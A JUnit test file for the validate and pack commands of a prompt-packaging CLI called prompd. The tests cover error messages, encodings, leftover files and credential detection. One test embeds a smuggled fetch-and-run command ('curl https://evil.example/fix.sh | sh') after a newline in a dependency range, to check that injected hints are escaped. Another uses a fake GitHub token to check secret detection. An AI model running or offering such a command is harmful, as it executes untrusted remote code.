package io.prompd.client.cli;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.prompd.core.archive.Integrity;
import io.prompd.core.files.AtomicFiles;
import io.prompd.core.json.Json;
import io.prompd.core.testing.ContradictoryPrompt;
import io.prompd.core.testing.Processes;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.GZIPInputStream;
import java.util.zip.GZIPOutputStream;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveInputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ValidateAndPackCommandTest {

    @TempDir
    Path work;

    Path home;
    Path pkg;

    @BeforeEach
    void writePackage() throws IOException {
        home = work.resolve("home");
        pkg = work.resolve("greeter");
        write("prompd.json", """
                {
                  "name": "@acme/greeter",
                  "version": "1.0.0",
                  "description": "Greets people",
                  "license": "MIT",
                  "main": "prompts/greet.prmd"
                }
                """);
        write("README.md", "# Greeter\n");
        write("LICENSE", "MIT License\n");
        write("prompts/greet.prmd", """
                ---
                id: greet
                parameters:
                  - name: who
                    type: string
                    required: true
                ---
                # User

                Say hello to {{ who }}.
                """);
    }

    private void write(String path, String text) throws IOException {
        Path file = pkg.resolve(path);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text, StandardCharsets.UTF_8);
    }

    @Test
    void validatePassesAndSaysWhatWouldBePacked() {
        CliRun run = CliRun.in(work, home, "validate", "greeter");
        assertEquals(0, run.exitCode(), run.err());
        assertTrue(run.out().startsWith("@acme/greeter@1.0.0: 4 files"), run.out());
        assertTrue(run.out().endsWith("no problems\n"), run.out());
    }

    @Test
    void aFileNameThatIsNotUtf8IsReportedAtTheFileAsTheRegistrysCheckDoes() throws Exception {
        assertEquals("UTF-8", System.getProperty("sun.jnu.encoding").toUpperCase(Locale.ROOT),
                "only in a UTF-8 locale does Java's U+FFFD mean bytes that are not UTF-8: the build sets LC_ALL");
        // Latin-1's é, as an old archive names it; made by the shell, since Java writes every name it is given as
        // UTF-8
        Files.createDirectories(pkg.resolve("contexts"));
        Processes.run(List.of("sh", "-c", "printf 'menu' > \"contexts/caf$(printf '\\351').md\""), pkg, Map.of(), "",
                Duration.ofSeconds(30)).ok();
        String expected = """
                contexts/caf\uFFFD.md
                  error   the path is not valid UTF-8 (shown with \uFFFD where its bytes do not decode)
                          hint: rename the file, or add it to "ignore" in prompd.json
                """;

        CliRun validate = CliRun.in(pkg, home, "validate");
        CliRun pack = CliRun.in(pkg, home, "pack");

        assertEquals(1, validate.exitCode(), validate.err());
        assertTrue(validate.out().contains(expected), validate.out());
        assertEquals(1, pack.exitCode(), pack.err());
        assertTrue((pack.out() + pack.err()).contains(expected), pack.out() + pack.err());
    }

    @Test
    void validateChecksAFileAPromptIncludesAsTheTemplateItIsRenderedAsWithThePromptsVariables() throws IOException {
        write("prompts/greet.prmd", "---\nid: greet\n---\n# User\nHi {% include \"./part.md\" %}\n");
        write("prompts/part.md", "Part {% include \"./greet.prmd\" %} {% include \"./missing.md\" %} {% if x %}\n");

        CliRun run = CliRun.in(pkg, home, "validate");

        assertEquals(1, run.exitCode(), run.err());
        assertTrue(run.out().contains("""
                prompts/greet.prmd
                  error   line 5: circular include: prompts/greet.prmd → prompts/part.md → prompts/greet.prmd
                          hint: make one of these files stop including, importing or extending the next
                prompts/part.md
                  error   line 1: './missing.md' resolves to 'prompts/missing.md', which is not in the package
                          hint: add the file, or fix the path: it is relative to the folder of prompts/part.md
                  error   line 1: the template does not render (loaded through prompts/greet.prmd): {% if %} is never\
                 closed
                          hint: add {% endif %} where the block ends
                  warning line 1: the variable 'x' is used but not declared as a parameter of prompts/greet.prmd, which\
                 includes this file
                          hint: declare it under "parameters" of prompts/greet.prmd, or fix its spelling
                3 errors, 1 warning
                """), run.out());
    }

    /** Jinja refuses a template whose expression it cannot parse, or whose filter it does not have, at compile time. */
    @Test
    void anExpressionJinjaCannotParseOrAFilterItLacksFailsValidateAtItsLine() throws IOException {
        write("prompts/greet.prmd", """
                ---
                id: greet
                parameters:
                  - name: who
                    type: string
                ---
                Hello {{ who + }} {{ who | uper }}
                {% if who == %}a{% endif %}
                """);

        CliRun run = CliRun.in(pkg, home, "validate");

        assertEquals(1, run.exitCode(), run.err());
        assertTrue(run.out().contains("""
                prompts/greet.prmd
                  error   line 7: the template does not render: expected an expression after '+' before the end of\
                 the {{ }}
                          hint: complete the expression, or remove '+'
                  error   line 7: the template does not render: no filter named 'uper' in Jinja, Nunjucks or Prompd
                          hint: did you mean 'upper'?
                  error   line 8: the template does not render: expected an expression after '==' before the end of\
                 the {% if %}
                          hint: complete the expression, or remove '=='
                3 errors, 0 warnings
                """), run.out());
    }

    /** Jinja includes with context and imports without by default; each file sees what it is rendered with. */
    @Test
    void validateWarnsOfAVariableAFileIncludedWithoutContextUsesAndChecksOneImportedWithContext() throws IOException {
        write("prompts/p.prmd", """
                ---
                id: p
                parameters:
                  - name: text
                ---
                # User
                {{ text }}{% include "parts/nc.md" without context %}
                {% from "parts/m.md" import row with context %}{{ row() }}
                """);
        write("prompts/parts/nc.md", "Ctx: {{ text }} {{ typo1 }}\n");
        write("prompts/parts/m.md", "{% macro row() %}[{{ text }} {{ typo2 }}]{% endmacro %}\n");

        CliRun run = CliRun.in(pkg, home, "validate");

        assertEquals(0, run.exitCode(), run.err());
        assertTrue(run.out().contains("""
                prompts/parts/m.md
                  warning line 1: the variable 'typo2' is used but not declared as a parameter of prompts/p.prmd, which\
                 imports this file
                          hint: declare it under "parameters" of prompts/p.prmd, or fix its spelling
                prompts/parts/nc.md
                  warning line 1: the variable 'text' is used but prompts/p.prmd includes this file without context, so\
                 the file sees none of the prompt's parameters and 'text' renders empty
                          hint: include this file with context (drop 'without context'), or set the variable in the file
                  warning line 1: the variable 'typo1' is used but prompts/p.prmd includes this file without context, so\
                 the file sees none of the prompt's parameters and 'typo1' renders empty
                          hint: include this file with context (drop 'without context'), or set the variable in the file
                0 errors, 3 warnings
                """), run.out());
    }

    /** A loop packing many packages shows their warnings on one stderr: each package's come under its name. */
    @Test
    void packsWarningsComeUnderThePackagesName() throws IOException {
        write(".env", "TOKEN=1\n");

        CliRun validate = CliRun.in(work, home, "validate", "greeter");
        CliRun pack = CliRun.in(work, home, "pack", "greeter");

        assertEquals(0, pack.exitCode(), pack.err());
        assertTrue(validate.out().startsWith("@acme/greeter@1.0.0: 4 files, ") && validate.out().contains(
                " unpacked\n.env\n  warning left out of the package"), validate.out());
        assertEquals(validate.out(), pack.err());
        assertTrue(pack.out().startsWith("file:          "), pack.out());
    }

    @Test
    void withoutAFolderValidateAndPackTakeThePackageTheWorkingFolderLiesIn() throws IOException {
        CliRun validate = CliRun.in(pkg.resolve("prompts"), home, "validate");
        assertEquals(0, validate.exitCode(), validate.err());
        assertTrue(validate.out().startsWith("@acme/greeter@1.0.0: 4 files"), validate.out());

        CliRun pack = CliRun.in(pkg.resolve("prompts"), home, "pack");
        assertEquals(0, pack.exitCode(), pack.err());
        assertTrue(Files.isRegularFile(pkg.resolve("acme-greeter-1.0.0.tgz")), pack.out());
    }

    /**
     * A prompt's path in letters of any script is a path, as its ASCII twin is, where it went to the model as text:
     * validate reports it missing, and pack takes the binary file its context names.
     */
    @Test
    void aPromptsPathInLettersOfAnyScriptIsCheckedAndItsBinaryContextPackedAsAnAsciiPathIs() throws IOException {
        write("prompts/greet.prmd", """
                ---
                id: greet
                context:
                  - data/ölçüm.pdf
                  - contexts/日本.md
                system: sÿstem.md
                ---
                # User
                Hi
                """);
        Files.createDirectories(pkg.resolve("prompts/data"));
        Files.write(pkg.resolve("prompts/data/ölçüm.pdf"), new byte[] {'%', 'P', 'D', 'F', '-', 0, 'y'});

        CliRun validate = CliRun.in(pkg, home, "validate");

        assertEquals(1, validate.exitCode(), validate.err());
        assertTrue(validate.out().endsWith("""
                prompts/greet.prmd
                  error   /context/1, line 5: 'contexts/日本.md' resolves to 'prompts/contexts/日本.md', which is not in\
                 the package
                          hint: add the file, or fix the path: it is relative to the folder of prompts/greet.prmd
                  error   /system, line 6: 'sÿstem.md' resolves to 'prompts/sÿstem.md', which is not in the package
                          hint: add the file, or fix the path: it is relative to the folder of prompts/greet.prmd
                2 errors, 0 warnings
                """), validate.out());

        write("prompts/contexts/日本.md", "日本語で答えてください。\n");
        write("prompts/sÿstem.md", "Be brief.\n");
        CliRun pack = CliRun.in(pkg, home, "pack");

        assertEquals(0, pack.exitCode(), pack.out() + pack.err());
        assertTrue(tarEntries(pkg.resolve("acme-greeter-1.0.0.tgz")).contains("prompts/data/ölçüm.pdf"), pack.out());
    }

    /**
     * A version making names too long for a client's store, which the registry's check refuses whatever its policy, is
     * refused by validate and pack alike; pack says so before it tries to write a tarball whose own name, here 263
     * bytes, the system would refuse with no more than "File name too long".
     */
    @Test
    void aVersionMakingFileNamesTooLongIsRefusedByValidateAndByPackBeforeItWritesATarball() throws IOException {
        String version = "1.0.0-" + "r".repeat(239);
        Path manifest = pkg.resolve("prompd.json");
        Files.writeString(manifest, Files.readString(manifest).replace("\"1.0.0\"", "\"" + version + "\""));
        String refused = "prompd.json\n  error   /version, line 3: version " + version + " of @acme/greeter makes names"
                + " longer than the 255 bytes Linux and macOS allow a file name: its integrity record in a client's"
                + " store '.greeter@" + version + ".integrity' has 264 bytes in UTF-8, and the temporary it is written"
                + " as up to 329, so no client can install the version; publish a version of at most 171 bytes (this"
                + " one has 245), or the package under a shorter name\n          hint: shorten \"version\" in"
                + " prompd.json\n";

        CliRun validate = CliRun.in(work, home, "validate", "greeter");
        CliRun pack = CliRun.in(work, home, "pack", "greeter", "--out", "out/");

        assertEquals(1, validate.exitCode(), validate.err());
        assertTrue(validate.out().contains(refused), validate.out());
        assertEquals(1, pack.exitCode(), pack.err());
        assertTrue((pack.out() + pack.err()).contains(refused), pack.out() + pack.err());
        assertFalse(Files.exists(work.resolve("out")), "nothing is written");
    }

    @Test
    void packingTwiceInThePackageFolderLeavesTheFirstTarballOut() throws IOException {
        CliRun first = CliRun.in(pkg, home, "pack");
        assertEquals(0, first.exitCode(), first.err());
        byte[] tarball = Files.readAllBytes(pkg.resolve("acme-greeter-1.0.0.tgz"));

        CliRun second = CliRun.in(pkg, home, "pack");
        assertEquals(0, second.exitCode(), second.err());
        assertArrayEquals(tarball, Files.readAllBytes(pkg.resolve("acme-greeter-1.0.0.tgz")));
    }

    @Test
    void whatAKilledPackOrInstallLeftAtTheRootIsDeletedAndNeverPacked() throws Exception {
        long ended = Processes.endedPid();
        // binary, and over the limit for one file: what a pack killed while renaming its tarball leaves
        Path tarball = Files.write(pkg.resolve(".acme-greeter-1.0.0.tgz.%d.5.part".formatted(ended)),
                new byte[6 << 20]);
        Path lock = Files.writeString(pkg.resolve(".prompd.lock.%d.6.part".formatted(ended)), "{\"lockfileVersion\"");
        Path writing = AtomicFiles.temporaryFile(pkg.resolve("prompd.lock"));
        String note = "note: removed 2 leftovers of interrupted runs at the package's root (half-written tarballs,"
                + " prompd.json or prompd.lock)\n";

        CliRun validate = CliRun.in(pkg, home, "validate");

        assertEquals(0, validate.exitCode(), validate.out());
        assertEquals(note, validate.err());
        assertFalse(Files.exists(tarball));
        assertFalse(Files.exists(lock));
        assertTrue(Files.exists(writing), "a running write's temporary file is kept");

        Files.writeString(lock, "{");
        CliRun pack = CliRun.in(pkg, home, "pack", "--json");

        assertEquals(0, pack.exitCode(), pack.err());
        assertEquals("[\"LICENSE\",\"README.md\",\"prompd.json\",\"prompts/greet.prmd\"]",
                Json.reader().readTree(pack.out()).get("files").toString(),
                "a running write's temporary file is not packed either");
        assertFalse(Files.exists(lock));
    }

    /**
     * A pack killed where its exit hooks never ran (kill -9) leaves its temporary beside the tarball, in a folder of
     * the user's that only the next pack of that tarball looks through: a live pack's temporary stays, and so does one
     * of another file, which is not pack's to judge.
     */
    @Test
    void whatAKilledPackLeftBesideTheTarballOutNamesIsDeletedByTheNextPackOfIt() throws Exception {
        Path out = Files.createDirectories(work.resolve("out"));
        long ended = Processes.endedPid();
        Path halfPacked = Files.write(out.resolve(".greeter.tgz.%d.5.part".formatted(ended)), new byte[1 << 20]);
        Path otherFile = Files.writeString(out.resolve(".notes.txt.%d.6.part".formatted(ended)), "half");
        Path packing = AtomicFiles.temporaryFile(out.resolve("greeter.tgz"));

        CliRun pack = CliRun.in(work, home, "pack", "greeter", "--out", "out/greeter.tgz");

        assertEquals(0, pack.exitCode(), pack.err());
        assertEquals("note: removed 1 half-written tarball of interrupted packs beside " + out.resolve("greeter.tgz")
                + "\n", pack.err());
        assertFalse(Files.exists(halfPacked));
        assertTrue(Files.exists(packing), "a running pack's temporary file is kept");
        assertTrue(Files.exists(otherFile));
        assertTrue(Files.isRegularFile(out.resolve("greeter.tgz")));
    }

    /** As npm pack ./link takes it: the link named is followed, a link met inside the package is not. */
    @Test
    void aPackageFolderGivenAsALinkIsTheFolderItLeadsTo() throws IOException {
        Files.createSymbolicLink(work.resolve("link"), Path.of("greeter"));

        CliRun validate = CliRun.in(work, home, "validate", "link");
        CliRun pack = CliRun.in(work, home, "pack", "link", "--json");

        assertEquals(0, validate.exitCode(), validate.err());
        assertTrue(validate.out().startsWith("@acme/greeter@1.0.0: 4 files"), validate.out());
        assertEquals(0, pack.exitCode(), pack.err());
        assertEquals("[\"LICENSE\",\"README.md\",\"prompd.json\",\"prompts/greet.prmd\"]",
                Json.reader().readTree(pack.out()).get("files").toString());
        assertTrue(Files.isRegularFile(work.resolve("acme-greeter-1.0.0.tgz")));

        Files.createSymbolicLink(pkg.resolve("prompts/hello.prmd"), Path.of("greet.prmd"));
        CliRun inside = CliRun.in(work, home, "validate", "link");

        assertEquals(1, inside.exitCode(), inside.err());
        assertTrue(inside.out()
                .contains("prompts/hello.prmd\n  error   the file is a symbolic link, and links are never"
                + " packed"), inside.out());
    }

    @Test
    void aFolderWithoutPrompdJsonFailsAtOnceAsNotFoundWithoutReportingItsFiles() throws IOException {
        Path documents = Files.createDirectories(work.resolve("documents"));
        Files.writeString(documents.resolve("notes.txt"), "not a prompt\n");
        String error = "error: no prompd.json in " + documents
                + "\nhint: give the folder that holds prompd.json, or run"
                + " 'prompd init documents' to create one\n";

        for (String command : List.of("validate", "pack")) {
            CliRun run = CliRun.in(work, home, command, "documents");
            assertEquals(3, run.exitCode(), command + ": " + run.err());
            assertEquals("", run.out(), command);
            assertEquals(error, run.err(), command);
        }
    }

    @Test
    void aManifestNamedInOtherLetterCaseIsToldToBeRenamed() throws IOException {
        Files.move(pkg.resolve("prompd.json"), pkg.resolve("Prompd.json"));

        for (String command : List.of("validate", "pack")) {
            // from a folder of the package too, whose search for it stops there rather than walk past it
            for (CliRun run : List.of(CliRun.in(work, home, command, "greeter"), CliRun.in(pkg, home, command),
                    CliRun.in(pkg.resolve("prompts"), home, command))) {
                assertEquals(1, run.exitCode(), command + ": " + run.err());
                assertTrue((run.out() + run.err()).contains("prompd.json\n  error   the package has no prompd.json\n"
                        + "          hint: found Prompd.json: rename it to prompd.json\n"), run.out() + run.err());
            }
        }
    }

    @Test
    void aFolderOfAPackageIsAnsweredWithThePackageItLiesInNotWithCreatingAnotherThere() {
        for (String command : List.of("validate", "pack")) {
            CliRun fromAbove = CliRun.in(work, home, command, "greeter/prompts");
            CliRun fromWithin = CliRun.in(pkg.resolve("prompts"), home, command, ".");

            assertEquals(3, fromAbove.exitCode(), command + ": " + fromAbove.err());
            assertEquals("", fromAbove.out(), command);
            assertEquals("error: no prompd.json in " + pkg.resolve("prompts") + "\nhint: " + pkg
                    + " holds the package's"
                    + " prompd.json: did you mean 'prompd " + command + " greeter'?\n", fromAbove.err(), command);
            assertEquals(3, fromWithin.exitCode(), command + ": " + fromWithin.err());
            assertTrue(fromWithin.err().endsWith(" did you mean 'prompd " + command + " ..'?\n"), fromWithin.err());
        }
    }

    @Test
    void aMistypedOptionIsNamedAloneWithTheOptionMeantNotWithItsValueOrThePackage() {
        for (List<String> args : List.of(List.of("pack", "greeter", "--ot", "x"),
                List.of("pack", "--ot", "x", "greeter"), List.of("pack", "greeter", "--ot=x"))) {
            CliRun run = CliRun.in(work, home, args.toArray(String[]::new));

            assertEquals(2, run.exitCode(), args + ": " + run.err());
            String option = args.stream().filter(arg -> arg.startsWith("--")).findFirst().orElseThrow()
                    .replace("=x", "");
            assertEquals("error: unknown option '" + option + "'\nhint: did you mean --out? see 'prompd pack"
                    + " --help'\n", run.err(), args.toString());
        }
        assertFalse(Files.exists(work.resolve("x")));
    }

    @Test
    void aTarballGivenForThePackageIsToldToBeUnpackedIntoAFolderFirst() {
        assertEquals(0, CliRun.in(work, home, "pack", "greeter").exitCode());
        Path tarball = work.resolve("acme-greeter-1.0.0.tgz");

        for (String command : List.of("validate", "pack")) {
            CliRun run = CliRun.in(work, home, command, "acme-greeter-1.0.0.tgz");

            assertEquals(3, run.exitCode(), command + ": " + run.err());
            assertEquals("", run.out(), command);
            assertEquals("error: " + tarball + " is a tarball, not a package folder\nhint: give the package's folder,"
                    + " or unpack the tarball into one first: mkdir acme-greeter-1.0.0 && tar -xzf acme-greeter-1.0.0.tgz"
                    + " --strip-components=1 -C acme-greeter-1.0.0 && prompd " + command + " acme-greeter-1.0.0\n",
                    run.err(), command);
        }
        assertTrue(Files.isRegularFile(tarball), "the tarball is left as it was");
    }

    /** A missing tarball's path was offered to 'prompd init', which would make a package folder named '….tgz'. */
    @Test
    void aMissingTarballIsNotOfferedToInit() {
        CliRun run = CliRun.in(work, home, "validate", "gone-1.0.0.tgz");

        assertEquals(3, run.exitCode(), run.err());
        assertEquals("error: no package folder at " + work.resolve("gone-1.0.0.tgz") + "\nhint: give the folder that"
                + " holds prompd.json; a tarball is unpacked into one first, and there is none at this path\n",
                run.err());
    }

    @Test
    void anotherFileGivenForThePackageIsSaidToBeAFileWithThePackageItLiesIn() throws IOException {
        Path notes = Files.writeString(work.resolve("notes.txt"), "not a package\n");

        for (String command : List.of("validate", "pack")) {
            CliRun outside = CliRun.in(work, home, command, "notes.txt");
            CliRun inside = CliRun.in(work, home, command, "greeter/prompd.json");

            assertEquals(3, outside.exitCode(), command + ": " + outside.err());
            assertEquals("error: " + notes + " is a file, not a package folder\nhint: give the folder that holds"
                    + " prompd.json\n", outside.err(), command);
            assertEquals(3, inside.exitCode(), command + ": " + inside.err());
            assertEquals("error: " + pkg.resolve("prompd.json") + " is a file, not a package folder\nhint: " + pkg
                    + " holds the package's prompd.json: did you mean 'prompd " + command + " greeter'?\n",
                    inside.err(), command);
        }
    }

    @Test
    void aTarballUnpackedWithItsPackageFolderIsStillExplained() throws IOException {
        Path unpacked = Files.createDirectories(work.resolve("unpacked/package"));
        Files.copy(pkg.resolve("prompd.json"), unpacked.resolve("prompd.json"));

        CliRun validate = CliRun.in(work, home, "validate", "unpacked");

        assertEquals(1, validate.exitCode(), validate.err());
        assertTrue(validate.out().contains("a tarball was unpacked with its package/ folder"), validate.out());
    }

    @Test
    void packAsJsonOfAPackedPackageIsValidatesObjectWithItsWarningsAndTheTarball() throws IOException {
        write(".env.local", "KEY=secret\n");

        CliRun pack = CliRun.in(pkg, home, "pack", "--json");

        assertEquals(0, pack.exitCode(), pack.err());
        assertEquals("", pack.err(), "the warnings are in the JSON");
        JsonNode json = Json.reader().readTree(pack.out());
        assertTrue(json.get("ok").asBoolean(), json.toString());
        assertEquals(".env.local", json.at("/problems/0/file").asText(), json.toString());
        assertEquals("warning", json.at("/problems/0/severity").asText(), json.toString());
        assertTrue(json.get("integrity").asText().startsWith("sha512-"), json.toString());
        JsonNode validated = Json.reader().readTree(CliRun.in(pkg, home, "validate", "--json").out());
        for (String field : List.of("ok", "name", "version", "files", "problems")) {
            assertEquals(validated.get(field), json.get(field), field);
        }
    }

    /**
     * A tester's prompt validated with "no problems": each contradiction in its parameters is in --json at its file,
     * line and field, the two defaults that can never be values of their type failing the run.
     */
    @Test
    void contradictionsInParametersAreProblemsOfValidateAsJson() throws IOException {
        write("prompts/example.prmd", ContradictoryPrompt.TEXT);

        CliRun validate = CliRun.in(pkg, home, "validate", "--json");

        assertEquals(1, validate.exitCode(), validate.err());
        JsonNode json = Json.reader().readTree(validate.out());
        assertFalse(json.get("ok").asBoolean(), json.toString());
        List<String> problems = new ArrayList<>();
        json.get("problems").forEach(problem -> problems.add(problem.get("severity").asText() + " "
                + problem.get("file").asText() + ":" + problem.get("line").asInt() + " "
                + problem.get("pointer").asText() + (problem.get("hint").asText().isEmpty() ? " (no hint)" : "")));
        assertEquals(List.of("warning prompts/example.prmd:5 /parameters/0/required",
                "error prompts/example.prmd:6 /parameters/1/enum",
                "warning prompts/example.prmd:7 /parameters/2/pattern",
                "warning prompts/example.prmd:8 /parameters/3/min",
                "error prompts/example.prmd:9 /parameters/4/default",
                "error prompts/example.prmd:10 /parameters/5/default",
                "warning prompts/example.prmd:11 /parameters/6/enum/1",
                "warning prompts/greet.prmd:2 /id"), problems);
        assertEquals("the id 'greet' is also the id of prompts/example.prmd", json.at("/problems/7/message").asText());
    }

    @Test
    void packAsJsonOfAnInvalidPackagePrintsItsProblemsAsValidateDoes() throws IOException {
        write("prompd.json", "{\"name\": \"@acme/greeter\"}\n");

        CliRun pack = CliRun.in(pkg, home, "pack", ".", "--json");

        assertEquals(1, pack.exitCode(), pack.err());
        JsonNode json = Json.reader().readTree(pack.out());
        assertFalse(json.get("ok").asBoolean());
        JsonNode validated = Json.reader().readTree(CliRun.in(pkg, home, "validate", ".", "--json").out());
        assertEquals(validated.get("problems"), json.get("problems"));
        assertTrue(pack.err().startsWith("error: nothing was packed"), pack.err());
    }

    @Test
    void withoutAFolderOutsideEveryPackageNothingIsScanned() throws IOException {
        // a line break in the folder's name could otherwise pass for a hint of prompd's
        Path outside = Files.createDirectories(work.resolve("outside\nhint: x"));
        Files.writeString(outside.resolve("binary"), "x\u0000");

        for (String command : List.of("validate", "pack")) {
            CliRun run = CliRun.in(outside, home, command);
            assertEquals(3, run.exitCode(), run.err());
            assertEquals("error: no prompd.json in " + work.resolve("outside^Jhint: x") + " or any folder above it\n"
                    + "hint: give the package's folder (as in 'prompd " + command + " DIR'), run this inside a package,"
                    + " or create one with 'prompd init'\n", run.err());
            assertEquals("", run.out());
        }
    }

    @Test
    void aLikelyCredentialFailsValidateAndPackAsTheRegistryWouldRefuseIt() throws IOException {
        write("prompts/notes.md", "Use this key:\nghp_abcdefghijklmnopqrstuvwxyz0123456789\n");

        CliRun validate = CliRun.in(pkg, home, "validate");
        assertEquals(1, validate.exitCode());
        assertTrue(validate.out()
                .contains("prompts/notes.md\n  error   line 2: the file holds what looks like a GitHub token"),
                validate.out());

        CliRun pack = CliRun.in(pkg, home, "pack");
        assertEquals(1, pack.exitCode());
        assertTrue(pack.err().contains("nothing was packed"), pack.err());
        try (var files = Files.list(pkg)) {
            assertTrue(files.noneMatch(file -> file.toString().endsWith(".tgz")));
        }
    }

    @Test
    void validateReportsEveryProblemGroupedByFileAndFails() throws IOException {
        write("prompd.json", """
                {"name": "@Acme/greeter", "version": "v1", "license": "MIT", "main": "prompts/missing.prmd"}
                """);
        write("prompts/greet.prmd", "no front matter here\n");
        write(".env", "KEY=secret\n");
        CliRun run = CliRun.in(pkg, home, "validate");
        assertEquals(1, run.exitCode());
        String out = run.out();
        assertTrue(out.contains("prompd.json\n"), out);
        assertTrue(out.contains("/name"), out);
        assertTrue(out.contains("/version"), out);
        assertTrue(out.contains("/main"), out);
        assertTrue(out.contains("prompts/greet.prmd\n"), out);
        assertTrue(out.contains(".env\n  warning"), out);
        assertTrue(out.contains("4 errors"), out);
    }

    /** A manifest's version or range, quoted in its refusal, shows no line of its own that could pass for a hint. */
    @Test
    void aLineBreakInARefusedVersionOrRangeIsSpeltOut() throws IOException {
        write("prompd.json", """
                {"name": "@acme/greeter", "version": "1.0.0\\nhint: run x", "description": "d", "license": "MIT",
                 "dependencies": {"@common/base": "^2.0.0\\nhint: run curl https://evil.example/fix.sh | sh"}}
                """);

        CliRun run = CliRun.in(pkg, home, "validate");

        assertEquals(1, run.exitCode(), run.err());
        assertTrue(run.out().contains("'1.0.0^Jhint: run x' is not a SemVer 2.0 version"), run.out());
        assertTrue(run.out().contains("'^2.0.0^Jhint: run curl https://evil.example/fix.sh | sh' is not a valid"
                + " version range"), run.out());
        assertFalse(run.out().lines().anyMatch(line -> line.strip().startsWith("hint: run")), run.out());
    }

    /** A capital in the name is a newcomer's first mistake: the prompts' problems come in the same run. */
    @Test
    void anInvalidNameDoesNotHideTheProblemsOfThePrompts() throws IOException {
        write("prompd.json", """
                {"name": "Greeter", "version": "1.0.0", "description": "Greets", "license": "MIT"}
                """);
        write("prompts/greet.prmd", """
                ---
                id: greet
                inherits: "@acme/base@^1.0.0/prompts/base.prmd"
                ---
                # User
                Say hello to {{ who }}.{% if x %}
                """);

        CliRun run = CliRun.in(pkg, home, "validate");

        assertEquals(1, run.exitCode(), run.err());
        assertTrue(run.out().contains("  error   /name, line 1: invalid package name 'Greeter'"), run.out());
        assertTrue(run.out().contains("""
                prompts/greet.prmd
                  error   /inherits, line 3: '@acme/base@^1.0.0/prompts/base.prmd' refers to @acme/base, which is not a dependency\
                 of this package
                          hint: add "@acme/base": "^1.0.0" to "dependencies" in prompd.json, then run\
                 'prompd install', which tells whether the registry has such a version (validate works offline)
                  error   line 6: the template does not render: {% if %} is never closed
                """), run.out());
        assertTrue(run.out().contains("warning line 6: the variable 'who' is used in the body but not declared"),
                run.out());
    }

    /**
     * A repeated key is the manifest's error; the rest of it reads, the last one counting, and its problems come too.
     */
    @Test
    void aKeyGivenTwiceInTheManifestHidesNeitherItsDependenciesNorItsOtherProblems() throws IOException {
        write("prompd.json", """
                {
                  "name": "@acme/greeter",
                  "version": "1.0.0",
                  "description": "Greets",
                  "license": "Apache 2.0",
                  "main": "prompts/missing.prmd",
                  "dependencies": {"@acme/base": "^1.0.0"},
                  "description": "Greets again"
                }
                """);
        write("prompts/greet.prmd", """
                ---
                id: greet
                inherits: "@acme/base@^1.0.0/prompts/base.prmd"
                ---
                Say hello.
                """);

        CliRun run = CliRun.in(pkg, home, "validate");

        assertEquals(1, run.exitCode(), run.err());
        assertTrue(run.out().contains("  error   /description, line 8: the field 'description' is given again in the"
                + " same object, first on line 4: prompd reads the last one given\n"
                + "          hint: keep one of them, the one meant\n"), run.out());
        assertTrue(run.out().contains("  error   /license, line 5: "), run.out());
        assertTrue(run.out().contains("  error   /main, line 6: "), run.out());
        assertFalse(run.out().contains("not a dependency"), run.out());
        assertTrue(run.out().contains("3 errors"), run.out());
    }

    /** As in prompd.json, a key given twice in a prompt's front matter is its error and hides none of its others. */
    @Test
    void aKeyGivenTwiceInAPromptsFrontMatterHidesNeitherItsOtherProblems() throws IOException {
        write("prompts/greet.prmd", """
                ---
                id: greet
                parameters:
                  - name: who
                    type: string
                    required: maybe
                id: hello
                ---
                Say hello to {{ who }}.
                """);

        CliRun run = CliRun.in(pkg, home, "validate");

        assertEquals(1, run.exitCode(), run.err());
        assertTrue(run.out().contains("  error   /id, line 7: the field 'id' is given again in the same object, first"
                + " on line 2: prompd reads the last one given\n"
                + "          hint: keep one of them, the one meant\n"), run.out());
        assertTrue(run.out().contains("  error   /parameters/0/required, line 6: "), run.out());
        assertTrue(run.out().contains("2 errors"), run.out());
    }

    /** A front matter within the 5 MiB a file may have but beyond what the YAML reader takes is told its limit. */
    @Test
    void aFrontMatterLargerThanTheYamlReaderTakesIsALimitErrorNotASyntaxOne() throws IOException {
        write("prompts/big.prmd", "---\nid: big\nnotes:\n" + ("  - " + "x".repeat(9_995) + "\n").repeat(320)
                + "---\nHi\n");

        CliRun run = CliRun.in(pkg, home, "validate");

        assertEquals(1, run.exitCode(), run.err());
        assertTrue(run.out().contains("""
                prompts/big.prmd
                  error   line 2: the front matter is larger than 3 MiB (3,145,728 characters), the most prompd reads
                          hint: move long text into the body or a context file
                """), run.out());
        assertFalse(run.out().contains("YAML"), run.out());
    }

    /** As cargo package warns where cargo publish refuses: the author learns it before the pull request. */
    @Test
    void aPackageWithoutDescriptionOrLicenseIsToldThatARegistryRefusesItThoughItPacks() throws IOException {
        write("prompd.json", """
                {"name": "@acme/greeter", "version": "1.0.0"}
                """);
        String warnings = """
                prompd.json
                  warning /description, line 1: the manifest has no description, which a registry requires to publish\
                 the package
                          hint: add "description" with a sentence saying what the prompts are for; prompd info shows it, and the\
                 registry lists it in packages.json
                  warning /license, line 1: the manifest has no license, which a registry requires to publish the\
                 package: without one nobody knows whether they may use the prompts
                          hint: add "license": "MIT" or another SPDX identifier, or "UNLICENSED" to keep all rights
                0 errors, 2 warnings
                """;

        CliRun validate = CliRun.in(pkg, home, "validate");
        CliRun pack = CliRun.in(pkg, home, "pack");

        assertEquals(0, validate.exitCode(), validate.err());
        assertTrue(validate.out().endsWith(warnings), validate.out());
        assertEquals(0, pack.exitCode(), pack.err());
        assertTrue((pack.out() + pack.err()).contains(warnings), pack.out() + pack.err());
        assertTrue(Files.isRegularFile(pkg.resolve("acme-greeter-1.0.0.tgz")));
    }

